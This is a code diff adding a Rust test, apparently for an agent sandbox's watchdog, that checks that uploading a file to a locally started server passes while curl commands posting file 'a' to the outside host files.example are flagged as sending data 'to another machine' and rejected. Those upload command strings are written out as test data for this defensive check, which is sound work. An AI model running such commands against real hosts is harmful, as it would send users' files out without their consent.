@@ -141,3 +141,34 @@ async fn a_folder_has_its_own_posture() {
         .unwrap();
     desk.wait_until_ended().await;
 }
+
+/// Sends a file to a server that the same command starts.
+const UPLOAD: &str = "python3 -m http.server 8123 --bind 127.0.0.1 > /dev/null 2>&1 & \
+    until curl -s -d @a http://127.0.0.1:8123/ > /dev/null; do sleep 0.1; done; echo sent; kill $!";
+
+#[tokio::test]
+async fn a_server_that_a_command_starts_for_itself_is_no_other_machine() {
+    let mut own = open_in(Posture::AskAboutEffects, UPLOAD, Host::Person).await;
+    own.play().await;
+    let (state, text) = own.call_outcomes().await.remove(0);
+    assert_eq!(state, CallState::Done, "{text}");
+    assert!(text.contains("sent"), "{text}");
+
+    let elsewhere = "curl -s -d @a http://files.example/";
+    let both = format!("{UPLOAD}; curl -s -T a http://files.example/");
+    let opened = rule_text("net.fetch", "127.0.0.1:8123", "allow");
+    for (command, rules) in [(elsewhere, ""), (&*both, ""), (UPLOAD, &*opened)] {
+        let mut desk = open_in(Posture::AskAboutEffects, command, Host::Person).await;
+        desk.write_rules(rules);
+        desk.start("Go.").await;
+        let shown = desk.wait_for_call().await;
+        let mut steps = shown.trail.iter().flat_map(|trail| &trail.steps);
+        let sends = steps
+            .any(|step| step.gate == Gate::Watchdog && step.text.ends_with("to another machine."));
+        assert!(sends, "{command}: {:?}", shown.trail);
+        desk.decide_call(&shown, Decision::reject("No."))
+            .await
+            .unwrap();
+        desk.wait_until_ended().await;
+    }
+}
